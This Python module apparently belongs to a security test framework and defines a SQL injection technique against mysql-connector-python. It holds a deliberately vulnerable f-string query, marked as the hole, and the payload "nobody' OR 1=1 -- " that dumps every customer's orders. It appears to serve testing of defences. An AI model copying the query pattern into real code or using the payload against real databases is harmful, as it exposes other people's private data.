"""F1: an injected OR makes a condition true for every row."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedConnector, told


class AlwaysTrue(AbusedConnector):
    """On mysql-connector-python: a page that writes what its visitor searches for into the statement."""

    code = "F1"
    attack = "reads everybody's orders through a condition that is always true"
    reference = "https://owasp.org/www-community/attacks/SQL_Injection"
    rule = "query-attack"

    def work(self) -> None:
        """Searches for ordinary names."""
        for name in ("customer 1", "customer 2"):
            self._search(name)

    def meet(self) -> object:
        """Searches for what the attacker typed."""
        return self._search("nobody' OR 1=1 -- ")

    def _search(self, name: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(f"SELECT id, customer, total FROM orders WHERE customer = '{name}' ORDER BY id")  # the hole
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Everybody's orders came back."""
        del service
        return isinstance(got, list) and len(got) > 20
